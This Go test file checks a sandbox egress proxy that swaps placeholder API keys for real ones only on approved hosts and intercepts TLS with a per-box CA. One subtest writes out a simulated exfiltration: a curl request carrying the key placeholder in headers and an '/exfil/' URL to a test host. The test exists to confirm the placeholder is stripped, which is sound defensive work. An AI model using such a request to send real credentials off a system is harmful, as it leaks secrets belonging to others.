package egress

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/glovebox-dev/glovebox/protocol"
)

func TestBrokering(t *testing.T) {
	o := startOutside(t)
	b := startBox(t, o, protocol.NetworkSpec{Default: "deny", Allow: []string{"api.outside.test", "outside.test"}},
		Secret{Name: "ANTHROPIC_API_KEY", Value: testKey, Hosts: []string{"api.outside.test"}, Header: "x-api-key", Port: o.httpsPort})
	ph := b.p.Placeholders()["ANTHROPIC_API_KEY"]
	if !strings.HasPrefix(ph, "glovebox-placeholder-ANTHROPIC_API_KEY-") || ph != Placeholder("box-1", "ANTHROPIC_API_KEY") {
		t.Fatalf("placeholder = %q", ph)
	}
	for _, kv := range b.env() {
		if strings.Contains(kv, testKey) {
			t.Fatalf("the real key is in the agent env: %s", kv)
		}
	}
	https := fmt.Sprintf("https://api.outside.test:%d/v1/messages", o.httpsPort)
	check := func(t *testing.T, client string, header, want string) {
		t.Helper()
		got := o.lastSeen(t).Get(header)
		if got != want {
			t.Errorf("%s: the upstream saw %s %q, want %q", client, header, got, want)
		}
	}

	t.Run("curl", func(t *testing.T) {
		out, errOut, err := b.run(t, "curl", "-sS", "-H", "x-api-key: "+ph, "-H", "x-leak: "+ph, https)
		if err != nil || !strings.Contains(out, "hello from api.outside.test") {
			t.Fatalf("curl = %v, %q, %q", err, out, errOut)
		}
		check(t, "curl", "X-Api-Key", testKey)
		check(t, "curl", "X-Leak", "")
		ev := b.next(t)
		if ev.Proto != "https" || len(ev.Brokered) != 1 || len(ev.Stripped) != 1 {
			t.Errorf("event = %+v, want one brokered and one stripped", ev)
		}
	})
	t.Run("python bearer", func(t *testing.T) {
		script := `import os, sys, urllib.request
req = urllib.request.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["ANTHROPIC_API_KEY"]})
print(urllib.request.urlopen(req, timeout=20).read().decode())
`
		out, errOut, err := b.run(t, "python3", "-c", script, https)
		if err != nil || !strings.Contains(out, "hello from") {
			t.Fatalf("python = %v, %q, %q", err, out, errOut)
		}
		check(t, "python", "Authorization", "Bearer "+testKey)
		b.next(t)
	})
	t.Run("node", func(t *testing.T) {
		// Node 20 ignores HTTPS_PROXY, so the script opens the tunnel
		// itself; it trusts the box CA through NODE_EXTRA_CA_CERTS.
		script := `const http = require("http"), tls = require("tls");
const proxy = new URL(process.env.HTTPS_PROXY), target = new URL(process.argv[1]);
const req = http.request({host: proxy.hostname, port: proxy.port, method: "CONNECT", path: target.host});
req.on("connect", (res, sock) => {
  if (res.statusCode !== 200) { console.log("blocked", res.statusCode, res.statusMessage); process.exit(0); }
  const s = tls.connect({socket: sock, servername: target.hostname}, () => {
    s.write("GET " + target.pathname + " HTTP/1.1\r\nHost: " + target.host + "\r\nx-api-key: " + process.env.ANTHROPIC_API_KEY + "\r\nConnection: close\r\n\r\n");
  });
  let body = ""; s.on("data", d => body += d); s.on("end", () => console.log(body));
  s.on("error", e => { console.log("tls error", e.message); process.exit(1); });
});
req.on("error", e => { console.log("error", e.message); process.exit(1); });
req.end();
`
		out, errOut, err := b.run(t, "node", "-e", script, https)
		if err != nil || !strings.Contains(out, "hello from api.outside.test") {
			t.Fatalf("node = %v, %q, %q", err, out, errOut)
		}
		check(t, "node", "X-Api-Key", testKey)
		b.next(t)
	})
	t.Run("curl over socks5h", func(t *testing.T) {
		out, errOut, err := b.run(t, "curl", "-sS", "-x", "socks5h://"+b.addr, "-H", "x-api-key: "+ph, https)
		if err != nil || !strings.Contains(out, "hello from api.outside.test") {
			t.Fatalf("curl = %v, %q, %q", err, out, errOut)
		}
		check(t, "curl over SOCKS", "X-Api-Key", testKey)
		b.next(t)
	})
	t.Run("placeholder to another host is stripped", func(t *testing.T) {
		out, errOut, err := b.run(t, "curl", "-sS", "-H", "x-api-key: "+ph, "-H", "Authorization: Bearer "+ph,
			fmt.Sprintf("http://outside.test:%d/exfil/%s?k=%s", o.httpPort, ph, ph))
		if err != nil || !strings.Contains(out, "hello from") {
			t.Fatalf("curl = %v, %q, %q", err, out, errOut)
		}
		if strings.Contains(out, ph) {
			t.Errorf("the other host saw the placeholder in the path: %q", out)
		}
		seen := o.lastSeen(t)
		for k, vs := range seen {
			for _, v := range vs {
				if strings.Contains(v, ph) || strings.Contains(v, testKey) {
					t.Errorf("the other host saw %s: %s", k, v)
				}
			}
		}
		if ev := b.next(t); len(ev.Stripped) != 1 || ev.Stripped[0] != "ANTHROPIC_API_KEY" {
			t.Errorf("event = %+v, want the placeholder reported stripped", ev)
		}
	})
	t.Run("the agent's TLS trusts only the box CA for brokered hosts", func(t *testing.T) {
		// Without the bundle, curl refuses the proxy's certificate: the
		// interception is visible, never silent.
		_, errOut, err := b.run(t, "curl", "-sS", "--cacert", "/dev/null", https)
		if err == nil {
			t.Errorf("curl accepted the box's certificate without trusting the box CA: %s", errOut)
		}
		b.next(t)
	})
}

func TestBrokeringVerifiesUpstream(t *testing.T) {
	o := startOutside(t)
	o.roots = x509.NewCertPool() // the proxy trusts nothing: the real server's certificate fails
	b := startBox(t, o, protocol.NetworkSpec{Default: "allow"},
		Secret{Name: "K", Value: testKey, Hosts: []string{"api.outside.test"}, Header: "x-api-key", Port: o.httpsPort})
	out, _, _ := b.run(t, "curl", "-sS", "-i", fmt.Sprintf("https://api.outside.test:%d/", o.httpsPort))
	if !strings.Contains(out, "502") || !strings.Contains(out, "certificate") {
		t.Errorf("curl to a brokered host with an untrusted upstream = %q, want 502 naming the certificate", out)
	}
	if ev := b.next(t); ev.Decision != Fail {
		t.Errorf("event = %+v, want error", ev)
	}
	if o.count() != 0 {
		t.Error("the request reached an upstream whose certificate failed")
	}
}

func TestCACert(t *testing.T) {
	t.Parallel()
	pol, _ := NewPolicy(protocol.NetworkSpec{})
	p, err := New(Options{Policy: pol, Guard: testGuard})
	if err != nil {
		t.Fatal(err)
	}
	blk, _ := pem.Decode(p.CACert())
	if blk == nil {
		t.Fatal("CACert is not PEM")
	}
	c, err := x509.ParseCertificate(blk.Bytes)
	if err != nil || !c.IsCA {
		t.Fatalf("CACert: %v, IsCA %v", err, c != nil && c.IsCA)
	}
	q, _ := New(Options{Policy: pol, Guard: testGuard})
	if bytes.Equal(p.CACert(), q.CACert()) {
		t.Error("two proxies share a CA: each box must make its own")
	}
}

// TestWriteBundle: the bundle agents trust is the system's roots, as the
// environment names them, then the box CA, with a line break between
// them whether or not the system's file ends with one.
func TestWriteBundle(t *testing.T) {
	pol, _ := NewPolicy(protocol.NetworkSpec{})
	p, err := New(Options{Policy: pol, Guard: testGuard})
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	for _, system := range []string{"SYSTEM", "SYSTEM\n", strings.Repeat("ROOTS\n", 50000) + "LAST"} {
		src := filepath.Join(dir, "roots.pem")
		if err := os.WriteFile(src, []byte(system), 0o644); err != nil {
			t.Fatal(err)
		}
		out := filepath.Join(dir, "bundle.crt")
		named := SystemBundle(func(k string) string { return map[string]string{"SSL_CERT_FILE": src}[k] })
		if named != src {
			t.Fatalf("SystemBundle with SSL_CERT_FILE=%s names %q", src, named)
		}
		if err := p.WriteBundle(out, named); err != nil {
			t.Fatal(err)
		}
		got, _ := os.ReadFile(out)
		want := strings.TrimSuffix(system, "\n") + "\n# Glovebox box CA: the egress proxy brokers secrets with it\n" + string(p.CACert())
		if string(got) != want {
			t.Errorf("system roots of %d bytes: bundle of %d bytes, want %d: the roots, a line break, the CA", len(system), len(got), len(want))
		}
	}
	// No system bundle: the CA alone.
	out := filepath.Join(dir, "alone.crt")
	if err := p.WriteBundle(out, ""); err != nil {
		t.Fatal(err)
	}
	want := "# Glovebox box CA: the egress proxy brokers secrets with it\n" + string(p.CACert())
	if got, _ := os.ReadFile(out); string(got) != want {
		t.Errorf("bundle without system roots = %q, want the CA alone", got)
	}
	// A missing or empty SSL_CERT_FILE is passed over for the usual places.
	empty := filepath.Join(dir, "empty.pem")
	os.WriteFile(empty, nil, 0o644)
	if got := SystemBundle(func(string) string { return empty }); got == empty {
		t.Errorf("SystemBundle chose the empty file %s", empty)
	}
}

// TestBrokeredTunnelRechecked: a policy change applies to the next
// request inside a kept-alive brokered tunnel.
func TestBrokeredTunnelRechecked(t *testing.T) {
	o := startOutside(t)
	b := startBox(t, o, protocol.NetworkSpec{Default: "allow"}, Secret{Name: "K", Value: testKey, Hosts: []string{"api.outside.test"}, Header: "x-api-key", Port: o.httpsPort})
	boxRoots := x509.NewCertPool()
	boxRoots.AppendCertsFromPEM(b.p.CACert())
	proxyURL, _ := url.Parse("http://" + b.addr)
	var dials atomic.Int32
	tr := &http.Transport{Proxy: http.ProxyURL(proxyURL), TLSClientConfig: &tls.Config{RootCAs: boxRoots},
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			dials.Add(1)
			var d net.Dialer
			return d.DialContext(ctx, network, addr)
		}}
	defer tr.CloseIdleConnections()
	cl := &http.Client{Timeout: 10 * time.Second, Transport: tr}
	u := fmt.Sprintf("https://api.outside.test:%d/", o.httpsPort)
	get := func() int {
		resp, err := cl.Get(u)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := get(); code != 200 {
		t.Fatalf("first request: %d", code)
	}
	pol, _ := NewPolicy(protocol.NetworkSpec{Default: "allow", Deny: []string{"api.outside.test"}})
	b.p.SetPolicy(pol)
	if code := get(); code != 451 {
		t.Errorf("request after the deny: %d, want 451", code)
	}
	if n := dials.Load(); n != 1 {
		t.Errorf("the client dialled the proxy %d times, want 1 (the check must be on the kept-alive tunnel)", n)
	}
}
